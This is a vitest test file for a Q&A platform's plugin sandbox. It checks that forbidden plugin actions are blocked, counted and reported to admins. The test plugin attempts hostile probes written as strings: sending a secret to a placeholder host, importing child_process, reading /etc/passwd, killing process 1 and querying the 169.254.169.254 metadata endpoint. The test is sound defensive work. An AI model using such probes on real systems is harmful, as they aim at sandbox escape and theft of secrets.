import { plugins, removePlugin, savePluginConfig } from '@askwell/contract/plugins.ts'
import { renderPost } from '@askwell/contract/posts.ts'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { pluginArchive } from '../../../../test/plugin-package.ts'
import { pluginCalled, sendPackage, turnPlugin } from '../../../../test/plugins.ts'
import { engines, type TestUser, type World, world } from '../../../../test/world.ts'
import { DAY } from '../../../lib/clock.ts'
import { NAMES_OF_A_KIND, noted } from './forbidden-tries.ts'
import type { ForbiddenNote } from './queries.ts'

const PRIVATE = 'https://10.0.0.7/in'
/** Tries all of these with each text that it is asked for, and draws what it was told. */
const trying = (tries: string[]) => `export default { async render(blocks, kit) {
  const said = []
  for (const attempt of [${tries.map((one) => `async () => ${one}`).join(', ')}])
    await attempt().then(() => said.push('DONE'), ({ message }) => said.push(message))
  return blocks.map(() => '<p>' + said.join(' | ').replaceAll('<', '') + '</p>')
} }`

describe.each(engines)('what a plugin tries and isn’t allowed (%s)', { timeout: 60_000 }, (engine) => {
  let w: World
  let admin: TestUser
  beforeAll(async () => {
    w = await world(engine)
    admin = await w.given.admin()
  })
  afterAll(async () => {
    expect(w.faults).toEqual([])
    await w.close()
  })
  afterEach(() => w.as(admin).call(removePlugin, { body: { plugin_slug_name: 'trying' } }))

  const install = async (tries: string[], askwell: Record<string, unknown> = {}) => {
    await sendPackage(w, admin, await pluginArchive({ slug_name: 'trying', code: trying(tries), askwell }))
    await turnPlugin(w, admin, 'trying', true)
  }
  let asked = 0
  const render = () => w.as(admin).call(renderPost, { body: { content: `\`\`\`shout\n${++asked}\n\`\`\`` } })
  const listed = async () => (await pluginCalled(w, admin, 'trying'))!
  const words = async () => (await listed()).forbidden.map((one) => one.words)

  test('stands in the list with how often and when, in the admin’s language, and switches nothing off', async () => {
    await install(
      [
        `kit.fetch('https://elsewhere.example/x?secret=1')`,
        `kit.connect('ldap.example:389')`,
        `kit.storage.set('a', 1)`,
        `kit.accounts.list()`,
        `kit.fetch(kit.config.server)`,
        `import('node:fs')`,
        `import('node:child_process')`,
        `import('/etc/passwd')`,
        `process.kill(1)`,
        `fetch('http://169.254.169.254/latest')`,
      ],
      { permissions: ['net:{server}'], config: [{ name: 'server', kind: 'address' }] },
    )
    await w
      .as(admin)
      .call(savePluginConfig, { body: { plugin_slug_name: 'trying', config_fields: { server: PRIVATE } } })
    expect((await listed()).forbidden).toEqual([])
    const [first] = [w.clock.now(), expect(await render()).not.toContain('DONE')]
    const all = [
      'Exchange data with elsewhere.example',
      'Open a connection to ldap.example:389',
      'Do what takes the permission “storage”',
      'Do what takes the permission “accounts”',
      'Reach 10.0.0.7, an address in a private network',
      'Load “node:fs”, a module of Node that no plugin gets',
      'Load “node:child_process”, a module of Node that no plugin gets',
      'Read /etc/passwd, a file that isn’t its own',
      'Call process.kill, which no plugin may',
      'Call fetch of 169.254.169.254, which no plugin may',
    ]
    await expect.poll(words).toHaveLength(all.length)
    expect(await listed()).toMatchObject({ enabled: true, fault: null })
    expect((await listed()).forbidden.toSorted((a, b) => (a.words < b.words ? -1 : 1))).toEqual(
      all.toSorted().map((one) => ({ words: one, count: 1, at: first })),
    )
    const log = w.site.installed.logOf('trying').join('')
    expect(log).toContain('it was kept from this host: elsewhere.example')
    expect(JSON.stringify(await listed()) + log).not.toContain('secret=1')

    // Others are counted once it begins anew, or a minute later.
    w.clock.advance(60)
    for (let times = 0; times < 3; times++) expect(await render()).not.toContain('DONE')
    const config_fields = { server: `${PRIVATE}side` }
    await w.as(admin).call(savePluginConfig, { body: { plugin_slug_name: 'trying', config_fields } })
    expect((await listed()).forbidden).toHaveLength(all.length)
    for (const one of (await listed()).forbidden) expect(one).toMatchObject({ count: 4, at: first + 60 })
    const german = await w.server.inject({
      url: '/answer/admin/api/plugins',
      headers: { authorization: admin.token, 'accept-language': 'de_DE' },
    })
    expect(german.body).toContain('„node:fs“ laden, ein Modul von Node')
    await expect(w.as(await w.given.moderator()).call(plugins)).rejects.toMatchObject({ status: 403 })

    w.clock.advance(8 * DAY)
    admin = await w.given.admin() // by then nobody is logged in any more
    expect(await words()).toEqual([])
  })

  test('is gone once an admin switches it off', async () => {
    await install([`kit.fetch('https://elsewhere.example/')`])
    await render()
    await expect.poll(words).toHaveLength(1)
    await turnPlugin(w, admin, 'trying', false)
    expect(await words()).toEqual([])
    await turnPlugin(w, admin, 'trying', true)
    expect(await words()).toEqual([])
  })

  test('takes no more room, however much it is', async () => {
    await install([
      `Promise.allSettled(Array.from({ length: 40 }, (_, n) => kit.fetch('https://' + n + '.example/'))).then(() => import('node:net'))`,
    ])
    await render()
    await expect.poll(words).toHaveLength(NAMES_OF_A_KIND + 2)
    const { forbidden } = await listed()
    expect(forbidden.find((one) => one.words === 'More of these')).toMatchObject({ count: 40 - NAMES_OF_A_KIND })
    expect(await words()).toContain('Load “node:net”, a module of Node that no plugin gets')
  })

  test('also stands there where it couldn’t even begin', async () => {
    w.site.installed.supervision.pauseMs = 10
    await sendPackage(
      w,
      admin,
      await pluginArchive({ slug_name: 'trying', code: `import 'node:child_process'\nexport default {}` }),
    )
    await turnPlugin(w, admin, 'trying', true)
    await expect.poll(words).toEqual(['Load “node:child_process”, a module of Node that no plugin gets'])
  })
})

test('notes of the same are one, with the later time', () => {
  const one = (name: string, at: number): ForbiddenNote => ({ kind: 'host', name, count: 1, at })
  const notes = [one('a', 5), one('b', 6), one('a', 3)].reduce(noted, [] as ForbiddenNote[])
  expect(notes).toEqual([
    { kind: 'host', name: 'a', count: 2, at: 5 },
    { kind: 'host', name: 'b', count: 1, at: 6 },
  ])
})
